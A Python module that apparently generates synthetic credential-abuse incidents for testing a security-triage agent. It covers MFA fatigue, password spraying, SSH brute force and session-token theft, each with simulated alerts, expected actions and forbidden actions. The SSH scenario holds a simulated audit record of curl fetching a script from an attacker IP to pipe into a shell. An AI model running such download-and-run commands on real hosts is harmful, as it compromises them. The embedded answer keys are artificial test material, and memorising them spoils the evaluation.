"""credential_abuse stories: MFA fatigue, password spraying, SSH brute force, token theft."""

from __future__ import annotations

from collections.abc import Sequence
from datetime import datetime, timedelta
from typing import Any

from devtools.builtin_suite.story import Story, forbid_defaults, template
from devtools.northwind import (
    EXECUTIVES,
    HOSTILE_COUNTRIES,
    HQ_EGRESS,
    OFFICE_STAFF,
    PEOPLE,
    WEB_SERVERS,
    Person,
    asset,
    country_name,
    identity,
)
from devtools.vendor_records.common import Record
from devtools.vendor_records.microsoft import (
    ATYPICAL_TRAVEL,
    defender_alert,
    dv_ip,
    dv_mailbox,
    dv_user,
    identity_protection,
    se_account,
    se_ip,
    sentinel_alert,
)
from devtools.vendor_records.okta import (
    OKTA_VERIFY,
    SCRIPT_UA,
    okta_event,
    okta_failed_login,
    okta_mfa_ok,
    okta_push_denied,
    okta_session,
    okta_spray_threat,
    okta_target,
)
from devtools.vendor_records.suricata import suricata_alert
from devtools.vendor_records.wazuh import linux_log, wazuh_alert
from tierzero.tools.inventory import (
    Asset,
)

# ============================================================================================
# credential_abuse
# ============================================================================================


def push_fatigue(
    s: Story, victim: Person, ip: str, country: str, denials: int, *, new_place: bool = True
) -> list[str]:
    """Okta: a push, ``denials`` rejected pushes, then an approved one and a session."""
    okta: dict[str, Any] = {
        "person": victim,
        "ip": ip,
        "country": country,
        "new_place": new_place,
        "session": "idx" + s.hex(22),
    }
    targets = [okta_target(victim), OKTA_VERIFY]
    s.alert(
        "okta-push",
        s.at(0),
        okta_event,
        event_type="system.push.send_factor_verify_push",
        message="Push notification sent for verification",
        targets=targets,
        request_uri="/idp/idx/challenge",
        **okta,
    )
    for k in range(1, denials + 1):
        when = s.at(k)
        s.alert(
            f"okta-deny-{k}",
            when,
            okta_push_denied,
            targets=targets,
            request_uri="/idp/idx/authenticators/poll",
            **okta,
        )
    risk = "HIGH" if new_place else "MEDIUM"
    when = s.at(denials + 2)
    s.alert(
        "okta-mfa-ok",
        when,
        okta_mfa_ok,
        risk=risk,
        threat_suspected=False,
        credential_type="OTP",
        legacy="core.user.factor.attempt_success",
        targets=targets,
        request_uri="/idp/idx/authenticators/poll",
        **okta,
    )
    when = when + timedelta(seconds=1)
    s.alert(
        "okta-session",
        when,
        okta_session,
        risk=risk,
        threat_suspected=False,
        request_uri="/idp/idx/authenticators/poll",
        **okta,
    )
    return ["okta-deny-1", "okta-session"]


@template("credential_abuse", 5)
def mfa_fatigue(s: Story, i: int) -> None:
    victim = s.pick(OFFICE_STAFF + EXECUTIVES)
    hidden = i == 4  # the attacker signs in through a proxy in the victim's own country
    country = "DE" if hidden else s.pick(HOSTILE_COUNTRIES)
    attacker = s.ext_ip()
    denials = s.rng.randint(2, 5)
    s.difficulty = "hard" if hidden else "standard"
    s.start(s.workday_time() if i % 2 == 0 else s.evening_time())
    s.title = f"MFA push fatigue against {victim.name}, then a sign-in from {country}"
    s.description = (
        f"An attacker holding {victim.name}'s password sends Okta Verify pushes from {attacker} "
        f"({country_name(country)}); {victim.first} rejects {denials} and then approves one. "
        + (
            "The address is a residential proxy in Germany, so nothing about the location is "
            "unusual: only the push pattern gives it away."
            if hidden
            else "A Sentinel rule flags the pattern."
        )
    )
    evidence = push_fatigue(s, victim, attacker, country, denials, new_place=not hidden)
    s.alert(
        "sentinel-fatigue",
        s.at(denials + 8),
        sentinel_alert,
        name="Okta MFA push fatigue followed by a successful sign-in",
        level=4,
        description="A user denied or ignored several Okta Verify pushes and then "
        "approved one, from an IP address not seen for this user before.",
        tactics=["CredentialAccess"],
        techniques=["T1621"],
        entities=[se_account(victim.user), se_ip(attacker, country)],
        extended={"Data Sources": '["Okta_CL"]'},
        start=s.at(0),
    )
    techniques = ["T1621", "T1078.004"]
    if i in (0, 2):
        s.alert(
            "sentinel-travel",
            s.at(denials + 4),
            identity_protection,
            name="Atypical travel",
            alert_type="ImpossibleTravel",
            level=3,
            description=ATYPICAL_TRAVEL,
            user=victim.user,
            ip=attacker,
            country=country,
            previous=(HQ_EGRESS, "DE"),
        )
    if i in (1, 3):
        # The attacker enrolls an authenticator of their own to keep access.
        when = s.at(denials + 12)
        s.alert(
            "okta-factor-enrolled",
            when,
            okta_event,
            person=victim,
            event_type="user.mfa.factor.activate",
            message="Activate factor or authenticator",
            ip=attacker,
            country=country,
            targets=[okta_target(victim)],
            request_uri="/idp/myaccount/authenticators",
        )
        techniques.append("T1098.005")
    s.case(
        "account-takeover",
        s.refs(),
        "true_positive",
        techniques=techniques,
        evidence=["sentinel-fatigue", *evidence],
        actions=[
            ("revoke_sessions", victim.user),
            ("reset_password", victim.user),
            ("block_ip", attacker),
        ],
    )
    forbid_defaults(s)
    s.forbid(("block_ip", HQ_EGRESS))


_NEW_HIRES = (
    ("kai.lehmann", "Kai Lehmann"),
    ("lina.vogel", "Lina Vogel"),
    ("emre.kaya", "Emre Kaya"),
    ("julia.brandt", "Julia Brandt"),
)


@template("credential_abuse", 5)
def password_spray(s: Story, i: int) -> None:
    attacker = s.ext_ip()
    # One variant sprays from two addresses of the same hosting range.
    attackers = [attacker, s.ext_ip((attacker.rsplit(".", 1)[0],))] if i == 4 else [attacker]
    country = s.pick(HOSTILE_COUNTRIES)
    sprayed: list[Person] = s.sample(OFFICE_STAFF, s.rng.randint(5, 8))
    s.start(s.pick([s.night_time(), s.evening_time(), s.workday_time(6, 7)]))
    victim: Person | None = None
    if i in (0, 1):
        user, name = _NEW_HIRES[(i + s.rng.randint(0, 1) * 2) % len(_NEW_HIRES)]
        # A new hire whose Okta Verify enrollment is still pending: no MFA yet.
        victim = Person(
            user,
            name,
            "Operations",
            "Logistics trainee",
            "standard",
            ("DE",),
            None,
            None,
            mfa=False,
            password_changed="2026-10-26",
        )
        s.identities.append(identity(victim))
        sprayed.insert(s.rng.randint(1, len(sprayed)), victim)
    elif i == 3:
        victim = sprayed[-1]
    s.title = f"Okta password spray against {len(sprayed)} accounts from {attacker}" + (
        f", {victim.name}'s password guessed" if victim else ""
    )
    if victim and i in (0, 1):
        outcome = f"{victim.name}, a new hire without MFA yet, signs in with the guessed password."
    elif victim:
        outcome = f"{victim.name}'s password is right; {victim.first} rejects the MFA push."
    elif i == 2:
        outcome = "No sign-in succeeds, but two accounts are locked out."
    else:
        outcome = "The spray comes from two neighbouring addresses; no sign-in succeeds."
    s.description = (
        f"A password spray from {', '.join(attackers)} ({country_name(country)}) tries one "
        f"password against {len(sprayed)} Northwind accounts; Okta ThreatInsight flags it. "
        + outcome
    )
    minute = 0.0
    for k, person in enumerate(sprayed):
        ip = attackers[k % len(attackers)]
        when = s.at(minute)
        minute += s.rng.choice((0.5, 1, 1.5))
        if person is victim and i != 3:
            continue
        ref = f"okta-push-{person.user}" if person is victim else f"okta-failed-{person.user}"
        s.add(
            ref,
            when,
            okta_failed_login(when, person, ip, country)
            if person is not victim
            else okta_event(
                when,
                person=person,
                event_type="system.push.send_factor_verify_push",
                message="Push notification sent for verification",
                ip=ip,
                country=country,
                ua=SCRIPT_UA,
                targets=[okta_target(person), OKTA_VERIFY],
            ),
        )
    for ip in attackers:
        s.alert(f"okta-threat-{ip}", s.at(minute + 1), okta_spray_threat, ip, country)
    evidence = [f"okta-threat-{attacker}"]
    actions = [("block_ip", ip) for ip in attackers]
    techniques = ["T1110.003"]
    if i in (0, 1) and victim:
        when = s.at(minute + 3)
        s.alert(
            "okta-victim-session",
            when,
            okta_session,
            person=victim,
            threat_suspected=True,
            ip=attacker,
            country=country,
            ua=SCRIPT_UA,
        )
        evidence.append("okta-victim-session")
        techniques.append("T1078.004")
        actions += [("revoke_sessions", victim.user), ("reset_password", victim.user)]
    elif i == 3 and victim:
        when = s.at(minute + 1.5)
        s.alert(
            "okta-victim-deny",
            when,
            okta_push_denied,
            person=victim,
            ip=attacker,
            country=country,
            ua=SCRIPT_UA,
            targets=[okta_target(victim), OKTA_VERIFY],
        )
        evidence.append("okta-victim-deny")
        actions.append(("reset_password", victim.user))
    elif i == 2:
        for person in sprayed[:2]:
            when = s.at(minute + 2)
            s.alert(
                f"okta-locked-{person.user}",
                when,
                okta_event,
                person=person,
                event_type="user.account.lock",
                message="Max sign in attempts exceeded",
                result="FAILURE",
                reason="LOCKED_OUT",
                severity="WARN",
                ip=attacker,
                country=country,
                ua=SCRIPT_UA,
                targets=[okta_target(person)],
            )
    if i == 4:
        s.alert(
            "sentinel-spray",
            s.at(minute + 6),
            sentinel_alert,
            name="Okta password spray from few sources",
            level=3,
            description="Failed Okta sign-ins for many distinct accounts from one or two "
            "addresses within an hour.",
            tactics=["CredentialAccess"],
            techniques=["T1110.003"],
            entities=[
                *(se_ip(ip, country) for ip in attackers),
                *(se_account(p.user) for p in sprayed[:3]),
            ],
        )
        evidence.append("sentinel-spray")
    s.case(
        "password-spray",
        s.refs(),
        "true_positive",
        techniques=techniques,
        evidence=evidence,
        actions=actions,
    )
    forbid_defaults(s)
    bystander = next(p for p in sprayed if p is not victim)
    s.forbid(("block_ip", HQ_EGRESS), ("disable_user", bystander.user))


def _sshd(
    s: Story,
    ref: str,
    when: datetime,
    host: Asset,
    *,
    rule_id: str,
    level: int,
    description: str,
    groups: Sequence[str],
    techniques: Sequence[str],
    message: str,
    data: Record,
) -> None:
    full_log, pre = linux_log(when, host, "sshd", message)
    s.alert(
        ref,
        when,
        wazuh_alert,
        host,
        rule_id=rule_id,
        level=level,
        description=description,
        groups=groups,
        techniques=techniques,
        data=data,
        full_log=full_log,
        location="/var/log/auth.log",
        decoder={"parent": "sshd", "name": "sshd"},
        predecoder=pre,
    )


@template("credential_abuse", 4)
def ssh_brute_force(s: Story, i: int) -> None:
    server = asset(s.pick(WEB_SERVERS))
    attacker = s.ext_ip()
    country = s.pick(HOSTILE_COUNTRIES)
    succeeded = i in (0, 1)
    s.start(s.pick([s.night_time(), s.evening_time(), s.workday_time()]))
    s.title = f"SSH brute force against {server.hostname} from {attacker}" + (
        ", then a login and a download-and-run" if succeeded else ""
    )
    s.description = (
        f"{attacker} ({country_name(country)}) guesses SSH passwords on the internet-facing "
        f"web server {server.hostname}. "
        + (
            "It finds the password of the local 'deploy' account, logs in and pipes a script "
            "from the internet into a shell."
            if succeeded
            else "Every attempt fails."
        )
    )
    sport = s.rng.randint(40000, 60000)
    s.alert(
        "suricata-ssh-scan",
        s.at(0),
        suricata_alert,
        src=attacker,
        sport=sport,
        dst=server.ips[0],
        dport=22,
        sid=2001219,
        signature="ET SCAN Potential SSH Scan",
        category="Attempted Information Leak",
        priority=2,
        techniques=["T1046"],
        app_proto="ssh",
        signature_severity="Minor",
    )
    names = s.sample(("admin", "oracle", "test", "ubuntu", "git", "postgres", "ftpuser"), 3)
    for k, name in enumerate(names, start=1):
        when = s.at(1 + k)
        port = sport + k * 7
        _sshd(
            s,
            f"wazuh-invalid-user-{k}",
            when,
            server,
            rule_id="5710",
            level=5,
            description="sshd: Attempt to login using a non-existent user",
            groups=["syslog", "sshd", "authentication_failed", "invalid_login"],
            techniques=["T1110.001"],
            message=f"Invalid user {name} from {attacker} port {port}",
            data={"srcip": attacker, "srcport": str(port), "dstuser": name},
        )
    when = s.at(6)
    _sshd(
        s,
        "wazuh-brute-force",
        when,
        server,
        rule_id="5712",
        level=10,
        description="sshd: brute force trying to get access to the system. Non existent user.",
        groups=["syslog", "sshd", "authentication_failures"],
        techniques=["T1110"],
        message=f"Invalid user {names[-1]} from {attacker} port {sport + 40}",
        data={"srcip": attacker, "srcport": str(sport + 40), "dstuser": names[-1]},
    )
    evidence = ["wazuh-brute-force"]
    actions = [("block_ip", attacker)]
    techniques = ["T1110.001"]
    if succeeded:
        when = s.at(14)
        _sshd(
            s,
            "wazuh-ssh-login",
            when,
            server,
            rule_id="5715",
            level=3,
            description="sshd: authentication success.",
            groups=["syslog", "sshd", "authentication_success"],
            techniques=["T1078"],
            message=f"Accepted password for deploy from {attacker} port {sport + 91} ssh2",
            data={"srcip": attacker, "srcport": str(sport + 91), "dstuser": "deploy"},
        )
        dropper = s.ext_ip()
        url = f"http://{dropper}/{s.pick(('x', 'init', 'k', 'sys'))}.sh"
        when = s.at(16)
        s.alert(
            "wazuh-download-exec",
            when,
            wazuh_alert,
            server,
            rule_id="100310",
            level=12,
            description="Audit: a download tool's output was piped into a shell",
            groups=["audit", "audit_command", "download_exec"],
            techniques=["T1105", "T1059.004"],
            data={
                "audit": {
                    "type": "EXECVE",
                    "exe": "/usr/bin/curl",
                    "command": "curl",
                    "execve": {"a0": "curl", "a1": "-fsSL", "a2": url},
                    "cwd": "/home/deploy",
                    "uid": "1001",
                    "auid": "1001",
                    "key": "download_exec",
                },
                "dstuser": "deploy",
            },
            full_log=f'type=EXECVE msg=audit({when.timestamp():.3f}:4711): argc=3 a0="curl" '
            f'a1="-fsSL" a2="{url}"',
            location="/var/log/audit/audit.log",
            decoder={"parent": "auditd", "name": "auditd"},
        )
        evidence += ["wazuh-ssh-login", "wazuh-download-exec"]
        actions += [("block_ip", dropper), ("isolate_host", server.hostname)]
        techniques += ["T1078.003", "T1105", "T1059.004"]
    s.case(
        "ssh-brute-force",
        s.refs(),
        "true_positive",
        techniques=techniques,
        evidence=evidence,
        actions=actions,
    )
    forbid_defaults(s)
    s.forbid(("isolate_host", "SRV-DB-01"), ("block_ip", "10.0.5.10"))
    if not succeeded:
        s.forbid(("isolate_host", server.hostname))


@template("credential_abuse", 4)
def token_theft_inbox_rule(s: Story, i: int) -> None:
    victim = s.pick(
        [*EXECUTIVES, PEOPLE["felix.wagner"], PEOPLE["ines.moreau"], PEOPLE["alice.martin"]]
    )
    hidden = i == 3  # a VPS in the victim's own country: no travel alert at all
    country = "DE" if hidden else s.pick(HOSTILE_COUNTRIES)
    attacker = s.ext_ip()
    s.difficulty = "hard" if hidden else "standard"
    s.start(s.workday_time(7, 15))
    forward_to = f"{victim.first.lower()}.{s.hex(4)}@{s.domain('mail', 'box')}"
    s.title = f"Stolen session of {victim.name} replayed; inbox rule hides finance mail"
    s.description = (
        f"{victim.name}'s session token is stolen and replayed from {attacker} "
        f"({country_name(country)}). The attacker creates an inbox rule that moves mail "
        f"mentioning 'invoice' or 'payment' to RSS Feeds"
        + (f" and forwards it to {forward_to}." if i % 2 == 0 else ".")
        + (" The address is in Germany, like the victim." if hidden else "")
    )
    s.alert(
        "sentinel-anomalous-token",
        s.at(0),
        identity_protection,
        name="Anomalous Token",
        alert_type="AnomalousToken",
        level=3,
        description="This detection indicates that there are abnormal characteristics in the "
        "token such as an unusual token lifetime or a token that is played from an unfamiliar "
        "location.",
        user=victim.user,
        ip=attacker,
        country=country,
    )
    if not hidden:
        name, kind = [
            ("Atypical travel", "ImpossibleTravel"),
            ("Unfamiliar sign-in properties", "UnfamiliarFeatures"),
        ][i % 2]
        s.alert(
            "sentinel-signin-risk",
            s.at(2),
            identity_protection,
            name=name,
            alert_type=kind,
            level=3,
            description="Sign-in with properties not seen recently for the user.",
            user=victim.user,
            ip=attacker,
            country=country,
            previous=(HQ_EGRESS, "DE"),
        )
    s.alert(
        "defender-inbox-rule",
        s.at(9),
        defender_alert,
        title="Suspicious inbox manipulation rule",
        level=3,
        description=f"A rule that moves or deletes messages was created in {victim.name}'s "
        "mailbox from an unusual address. Attackers hide replies to fraudulent payment "
        "requests.",
        category="DefenseEvasion",
        techniques=["T1564.008"],
        source="microsoftDefenderForCloudApps",
        evidence=[
            dv_user(victim.user),
            dv_ip(attacker, country=country),
            dv_mailbox(victim.user),
        ],
    )
    techniques = ["T1539", "T1550.004", "T1564.008"]
    if i % 2 == 0:
        s.alert(
            "defender-forwarding",
            s.at(11),
            defender_alert,
            title="Suspicious inbox forwarding",
            level=4,
            description=f"Mail in {victim.name}'s mailbox is forwarded to an external address "
            f"({forward_to}).",
            category="Collection",
            techniques=["T1114.003"],
            source="microsoftDefenderForCloudApps",
            evidence=[dv_user(victim.user), dv_ip(attacker, country=country)],
        )
        techniques.append("T1114.003")
    s.case(
        "session-hijack",
        s.refs(),
        "true_positive",
        techniques=techniques,
        evidence=["sentinel-anomalous-token", "defender-inbox-rule"],
        actions=[
            ("revoke_sessions", victim.user),
            ("reset_password", victim.user),
            ("block_ip", attacker),
        ],
    )
    forbid_defaults(s)
    s.forbid(("quarantine_email", victim.email), ("block_ip", HQ_EGRESS))
